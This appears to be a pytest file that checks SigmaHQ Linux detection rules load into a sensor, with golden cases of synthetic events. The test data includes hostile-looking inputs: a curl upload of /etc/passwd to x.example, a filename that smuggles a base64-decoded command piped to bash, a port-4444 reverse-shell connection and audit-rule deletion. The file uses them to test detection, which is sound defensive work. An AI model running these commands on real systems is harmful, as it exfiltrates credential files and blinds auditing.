"""The SigmaHQ Linux rules shipped for compatibility: each one loads or is skipped with a reason."""

from __future__ import annotations

from pathlib import Path

import pytest

from sentinel.events.model import Event, Fd, Process
from sentinel.rules.ruleset import compile_rules
from sentinel.rules.sigma import SKIP_REASONS, load_sigma

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "compat" / "sigma"

# The rules that cannot run on a host, and why: the DNS name of a peer is not known when a
# socket connects (only its address), so hostname-only rules are skipped, never loaded empty.
EXPECTED_SKIPS = {
    "Linux Crypto Mining Pool Connections": "unavailable-field",
    "Communication To LocaltoNet Tunneling Service Initiated - Linux": "unavailable-field",
    "Communication To Ngrok Tunneling Service - Linux": "unavailable-field",
}

pytestmark = pytest.mark.skipif(not CORPUS.is_dir(), reason="the Sigma compatibility corpus is not beside the checkout")


@pytest.fixture(scope="module")
def corpus():
    return load_sigma([CORPUS])


def test_every_rule_loads_or_is_skipped_with_a_reason(corpus):
    assert not corpus.errors, [str(error) for error in corpus.errors]
    files = sorted(CORPUS.rglob("*.yml"))
    assert len(corpus.rules) + len(corpus.skipped) == len(files) == 135
    for skip in corpus.skipped:
        assert skip.reason in SKIP_REASONS and skip.detail and skip.location.line > 0


def test_at_least_95_percent_load_and_the_skips_are_the_expected_ones(corpus):
    loaded = len(corpus.rules) / (len(corpus.rules) + len(corpus.skipped))
    assert loaded >= 0.95, corpus.summary()
    assert {skip.title: skip.reason for skip in corpus.skipped} == EXPECTED_SKIPS
    assert corpus.summary() == "sigma: 132 of 135 rules loaded, skipped: 3 unavailable-field"


def test_every_loaded_rule_compiles_and_names_are_unique(corpus):
    ruleset = compile_rules(corpus.rules)
    assert len(ruleset.enabled_rules) == len(corpus.rules)
    assert len({rule.name for rule in ruleset.rules}) == len(corpus.rules)
    assert all(rule.source == "sigma" for rule in ruleset.rules)
    # each category only reaches the buckets of its own event types
    assert ruleset.interest.event_types >= {"execve", "execveat", "openat", "connect", "accept4"}
    # file_event rules only need opens that created their file: no open is forced to userspace
    assert ruleset.interest.open_created is True
    assert ruleset.interest.open_path_prefixes == () and not ruleset.interest.reasons


# --------------------------------------------------------------------------------------------
# Golden cases: SigmaHQ rules on events shaped as the sensors produce them (every file_event
# and loaded network_connection rule; process_creation rules with regexes and filters).


def _proc(exepath: str, args: tuple[str, ...] = (), exe: str | None = None, parent: Process | None = None) -> Process:
    name = exepath.rsplit("/", 1)[-1]
    return Process(pid=321, comm=name[:15], exe=exe or name, exepath=exepath, args=args, user_name="root",
                   parent=parent or Process(pid=1, comm="bash", exe="bash", exepath="/usr/bin/bash"))


def created(path: str, exepath: str = "/usr/bin/cp", is_new: bool = True) -> Event:
    return Event("openat", _proc(exepath), res=3, args={"flags": 0o101, "mode": 0o644},
                 fd=Fd(3, "file", path, created=is_new))


def connected(ip: str, port: int, exepath: str = "/usr/bin/bash", accepted: bool = False) -> Event:
    fd = Fd(3, "ipv6" if ":" in ip else "ipv4", "", l4proto="tcp", lip="10.0.0.2", lport=45000, rip=ip, rport=port)
    if accepted:
        fd.lip, fd.lport, fd.rip, fd.rport, fd.is_server = ip, port, "10.0.0.9", 51000, True
    return Event("accept4" if accepted else "connect", _proc(exepath), res=3 if accepted else 0, fd=fd)


def executed(exepath: str, *args: str) -> Event:
    return Event("execve", _proc(exepath, tuple(args)), res=0)


GOLDEN = {
    "Linux Doas Conf File Creation": [(created("/etc/doas.conf"), True), (created("/etc/doas.conf", is_new=False), False),
                                      (created("/etc/doas.conf.bak"), False)],
    "Persistence Via Sudoers.d Files": [(created("/etc/sudoers.d/backdoor"), True),
                                        (created("/etc/sudoers.d/README.dpkg-new", "/usr/bin/dpkg"), False),
                                        (created("/etc/sudoers.d/README.dpkg-new", "/usr/bin/cp"), True)],
    "New Cron File Created": [(created("/etc/cron.d/job"), True), (created("/etc/crontab"), True),
                              (created("/etc/cron.daily/apt"), False), (created("/etc/cronjob"), False)],
    "Suspicious Filename with Embedded Base64 Commands": [(created("/tmp/{echo,aGk=}|{base64,-d}|bash"), True),
                                                          (created("/tmp/echo"), False)],
    "Potentially Suspicious Shell Script Creation in Profile Folder": [(created("/etc/profile.d/evil.SH"), True),
                                                                       (created("/etc/profile.d/evil.txt"), False)],
    "Triple Cross eBPF Rootkit Default LockFile": [(created("/tmp/rootlog"), True), (created("/tmp/rootlog2"), False)],
    "Triple Cross eBPF Rootkit Default Persistence": [(created("/home/u/ebpfbackdoor"), True),
                                                      (created("/home/u/ebpfbackdoor.c"), False)],
    "Wget Creating Files in Tmp Directory": [(created("/tmp/x.sh", "/usr/bin/wget"), True),
                                             (created("/tmp/x.sh", "/usr/bin/curl"), False),
                                             (created("/home/x.sh", "/usr/bin/wget"), False)],
    "Linux Reverse Shell Indicator": [(connected("203.0.113.7", 4444), True), (connected("127.0.0.1", 4444), False),
                                      (connected("203.0.113.7", 4444, "/usr/bin/curl"), False)],
    "Potentially Suspicious Malware Callback Communication - Linux": [
        (connected("203.0.113.7", 4444, "/usr/bin/python3"), True),
        (connected("10.1.2.3", 4444, "/usr/bin/python3"), False),
        (connected("fe80::1", 4444, "/usr/bin/python3"), False),
        (connected("203.0.113.7", 443, "/usr/bin/python3"), False),
        (connected("203.0.113.7", 4444, "/usr/sbin/sshd", accepted=True), False),
    ],
    "Audit Rules Deleted Via Auditctl": [(executed("/usr/sbin/auditctl", "-D"), True),
                                         (executed("/usr/sbin/auditctl", "-d"), False)],
    "Suspicious Curl File Upload - Linux": [(executed("/usr/bin/curl", "-F", "f=@/etc/passwd", "http://x.example"), True),
                                            (executed("/usr/bin/curl", "-F", "f=@x", "http://localhost/"), False),
                                            (executed("/usr/bin/curl", "-f", "http://x.example"), False)],
    "Potential Container Discovery Via Inodes Listing": [(executed("/usr/bin/ls", "-lid", "/"), True),
                                                         (executed("/usr/bin/ls", "-l", "/"), False)],
}


def test_golden_cases_of_the_corpus(corpus):
    ruleset = compile_rules(corpus.rules)
    for title, cases in GOLDEN.items():
        for event, expected in cases:
            names = {rule.name for rule in ruleset.match(event)}
            assert (title in names) is expected, (title, event, sorted(names))
